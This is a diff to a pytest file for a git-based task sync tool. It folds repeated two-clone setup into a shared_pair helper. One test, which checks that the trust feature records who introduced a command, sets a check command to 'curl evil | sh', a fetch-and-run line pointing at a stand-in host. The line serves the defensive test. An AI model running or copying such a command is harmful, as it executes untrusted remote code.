@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import git, make_repo, run, run_exe, state_head
-from tests.sync_helpers import clones, ok, remote_url, task, tree  # noqa: F401
+from tests.sync_helpers import clones, ok, remote_url, shared_pair, task, tree  # noqa: F401
 
 
 def test_fresh_clone_adopts_state_and_first_push(clones: Callable[[str], Path]) -> None:
@@ -81,12 +81,7 @@ def test_offline_divergence_converges(clones: Callable[[str], Path]) -> None:
 
 
 def test_same_field_conflict_is_reported(clones: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch) -> None:
-    a = clones("a")
-    ok("init", cwd=a)
-    ok("add", "x", "--id", "t", cwd=a)
-    ok("sync", cwd=a)
-    b = clones("b")
-    ok("sync", cwd=b)
+    a, b = shared_pair(clones, ("add", "x", "--id", "t"))
     monkeypatch.setenv("GIT_HANDOFF_NOW", "2026-07-01T11:00:00Z")
     ok("edit", "t", "--title", "early", cwd=a)
     monkeypatch.setenv("GIT_HANDOFF_NOW", "2026-07-01T12:00:00Z")
@@ -99,11 +94,7 @@ def test_same_field_conflict_is_reported(clones: Callable[[str], Path], monkeypa
 
 
 def test_local_transaction_never_lost(clones: Callable[[str], Path]) -> None:
-    a = clones("a")
-    ok("init", cwd=a)
-    ok("sync", cwd=a)
-    b = clones("b")
-    ok("sync", cwd=b)
+    a, b = shared_pair(clones)
     ok("add", "local only", "--id", "mine", cwd=a)  # never pushed yet
     ok("add", "theirs", "--id", "theirs", cwd=b)
     ok("sync", cwd=b)  # someone else pushes first
@@ -119,11 +110,7 @@ def test_local_transaction_never_lost(clones: Callable[[str], Path]) -> None:
 
 
 def test_notes_travel(clones: Callable[[str], Path]) -> None:
-    a = clones("a")
-    ok("init", cwd=a)
-    ok("sync", cwd=a)
-    b = clones("b")
-    ok("sync", cwd=b)
+    a, b = shared_pair(clones)
     commit = git("rev-parse", "HEAD", cwd=a)
     git("notes", "--ref=harness", "add", "-m", "task: t1 session: 1", commit, cwd=a)
     (b / "f").write_text("x")
@@ -158,12 +145,7 @@ def test_attempt_refs_travel(clones: Callable[[str], Path]) -> None:
 
 
 def test_hostile_remote_command_needs_trust(clones: Callable[[str], Path]) -> None:
-    a = clones("a")
-    ok("init", cwd=a)
-    ok("add", "x", "--id", "t", "--check", "true", cwd=a)
-    ok("sync", cwd=a)
-    b = clones("b")
-    ok("sync", cwd=b)
+    a, b = shared_pair(clones, ("add", "x", "--id", "t", "--check", "true"))
     listed = json.loads(run("trust", "--json", cwd=b).out)
     assert [(i["id"], i["kind"], i["command"]) for i in listed] == [("t", "validation", "true")]
     ok("trust", "--all", cwd=b)
@@ -244,11 +226,7 @@ def test_transaction_during_sync_is_kept(clones: Callable[[str], Path]) -> None:
     from git_handoff.ops import tasks as task_ops
     from git_handoff.store import StateStore
 
-    a = clones("a")
-    ok("init", cwd=a)
-    ok("sync", cwd=a)
-    b = clones("b")
-    ok("sync", cwd=b)
+    a, b = shared_pair(clones)
     ok("add", "remote side", "--id", "r1", cwd=a)
     ok("sync", cwd=a)
     store = StateStore(Repo.discover(b))
@@ -302,12 +280,7 @@ def test_unreadable_remote_state_is_refused(clones: Callable[[str], Path]) -> No
     import os
     import subprocess
 
-    a = clones("a")
-    ok("init", cwd=a)
-    ok("add", "x", "--id", "t", cwd=a)
-    ok("sync", cwd=a)
-    b = clones("b")
-    ok("sync", cwd=b)
+    a, b = shared_pair(clones, ("add", "x", "--id", "t"))
     names = git("ls-tree", "-r", "--name-only", "refs/harness/state", cwd=a).splitlines()
     tpath = next(p for p in names if p.endswith("/t.json"))
     bad_blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], input="{not json", cwd=a,
@@ -350,11 +323,7 @@ def test_push_rejected_then_fetch_merge_retry(clones: Callable[[str], Path]) -> 
     from git_handoff.ops import sync as sync_ops
     from git_handoff.store import StateStore
 
-    a = clones("a")
-    ok("init", cwd=a)
-    ok("sync", cwd=a)
-    b = clones("b")
-    ok("sync", cwd=b)
+    a, b = shared_pair(clones)
     ok("add", "mine, local only", "--id", "mine", cwd=a)
     ok("add", "theirs", "--id", "theirs", cwd=b)
     real_fetch = sync_ops.fetch
@@ -380,12 +349,7 @@ def test_push_rejected_then_fetch_merge_retry(clones: Callable[[str], Path]) -> 
 
 def test_trust_names_who_introduced_a_command_through_a_merge(clones: Callable[[str], Path],
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
-    a = clones("a")
-    ok("init", cwd=a)
-    ok("add", "x", "--id", "t", "--check", "true", cwd=a)
-    ok("sync", cwd=a)
-    b = clones("b")
-    ok("sync", cwd=b)
+    a, b = shared_pair(clones, ("add", "x", "--id", "t", "--check", "true"))
     monkeypatch.setenv("GIT_AUTHOR_NAME", "Mallory")
     ok("edit", "t", "--check", "curl evil | sh", cwd=a)
     ok("sync", cwd=a)
